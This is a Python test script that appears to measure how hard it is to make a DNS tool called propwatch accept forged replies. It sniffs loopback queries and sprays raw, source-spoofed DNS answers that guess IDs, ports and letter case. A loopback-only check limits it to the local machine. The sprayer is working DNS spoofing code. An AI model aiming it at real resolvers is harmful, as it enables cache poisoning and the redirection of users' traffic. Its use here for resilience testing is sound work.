#!/usr/bin/env python3
"""forge.py - measure how hard it is to make propwatch believe a forged reply.

Two roles, both on loopback only (127.0.0.0/8), standard library only:

  forge.py sniff PORT SECONDS OUT.json
      Counts the UDP queries to PORT seen on lo (AF_PACKET) for SECONDS and
      writes {"queries": N, "ports": distinct source ports, "mixed_case": N
      queries whose name has upper-case letters}.

  forge.py spray ADDR_FILE PORT SECONDS QNAME QTYPE OUT.json [--know-port]
      Pretends to be every resolver in ADDR_FILE (one IPv4 address per line,
      all on loopback, answering on PORT) and sends forged replies to the
      querier: raw IPv4 with IP_HDRINCL, so the source is the resolver's.
      Blind (default): a random destination port in the ephemeral range,
      a random ID, a random 0x20 spelling. --know-port: the destination
      port of a query it sniffed (an on-path view an off-path forger does
      not have), still guessing the ID and the case.
      Writes {"sent": N, "seconds": S}.
"""
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 3


def big_buffer(s):
    """A sweep's burst outruns Python: let the kernel hold it (root: FORCE)."""
    try:
        s.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE
    except OSError:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
    return s


def parse_udp(frame):
    """(src, sport, dst, dport, payload) of an IPv4/UDP frame on lo, or None."""
    if len(frame) < 14 + 20 + 8 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 15) * 4
    if ip[9] != 17:
        return None
    udp = ip[ihl:]
    sport, dport = struct.unpack("!HH", udp[:4])
    return socket.inet_ntoa(ip[12:16]), sport, socket.inet_ntoa(ip[16:20]), dport, udp[8:]


def sniff(port, seconds, out):
    s = big_buffer(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)))
    s.bind(("lo", 0))
    s.settimeout(0.2)
    ports, queries, mixed = set(), 0, 0
    end = time.monotonic() + seconds
    ready = out + ".ready"
    open(ready, "w").close()
    while time.monotonic() < end:
        try:
            frame, addr = s.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] == socket.PACKET_OUTGOING:
            continue  # lo shows every packet twice
        p = parse_udp(frame)
        if p is None or p[3] != port or len(p[4]) < 13 or p[4][2] & 0x80:
            continue
        queries += 1
        ports.add(p[1])
        name = p[4][12:]
        if any(65 <= b <= 90 for b in name[:name.find(b"\0")]):
            mixed += 1
    json.dump({"queries": queries, "ports": len(ports), "mixed_case": mixed}, open(out, "w"))


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def spelled(qname):
    return bytes(c ^ 0x20 if 97 <= c <= 122 and random.getrandbits(1) else c for c in qname)


def wire_name(name):
    out = b""
    for label in name.rstrip(".").lower().split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def spray(addr_file, port, seconds, qname, qtype, out, know_port):
    addrs = [l.split()[0].split(":")[0] for l in open(addr_file) if l.strip() and not l.startswith("#")]
    for a in addrs:
        if not a.startswith("127."):
            sys.exit("forge.py: loopback only: %s" % a)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    qn = wire_name(qname)
    mx = struct.pack("!H", 10) + wire_name("forged.example.")
    rr = b"\xc0\x0c" + struct.pack("!HHIH", qtype, 1, 300, len(mx)) + mx
    known = []
    if know_port:
        sn = big_buffer(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)))
        sn.bind(("lo", 0))
        sn.setblocking(False)
    open(out + ".ready", "w").close()
    lo, hi = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        if know_port:
            try:
                while True:
                    frame, addr = sn.recvfrom(65535)
                    p = parse_udp(frame)
                    if p and p[3] == port and addr[2] != socket.PACKET_OUTGOING and not p[4][2] & 0x80:
                        known.append((p[0], p[1], p[2]))  # querier, its port, resolver
                        known = known[-64:]
            except BlockingIOError:
                pass
            if not known:
                time.sleep(0.001)
                continue
            dst, dport, src = random.choice(known)
        else:
            src, dst, dport = random.choice(addrs), "127.0.0.1", random.randint(lo, hi)
        dns = struct.pack("!HHHHHH", random.getrandbits(16), 0x8180, 1, 1, 0, 0)
        dns += spelled(qn) + struct.pack("!HH", qtype, 1) + rr
        udp = struct.pack("!HHHH", port, dport, 8 + len(dns), 0) + dns
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        try:
            raw.sendto(ip + udp, (dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.0005)
    json.dump({"sent": sent, "seconds": seconds}, open(out, "w"))


if __name__ == "__main__":
    if len(sys.argv) >= 5 and sys.argv[1] == "sniff":
        sniff(int(sys.argv[2]), float(sys.argv[3]), sys.argv[4])
    elif len(sys.argv) >= 8 and sys.argv[1] == "spray":
        spray(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], int(sys.argv[6]),
              sys.argv[7], "--know-port" in sys.argv)
    else:
        sys.exit(__doc__)
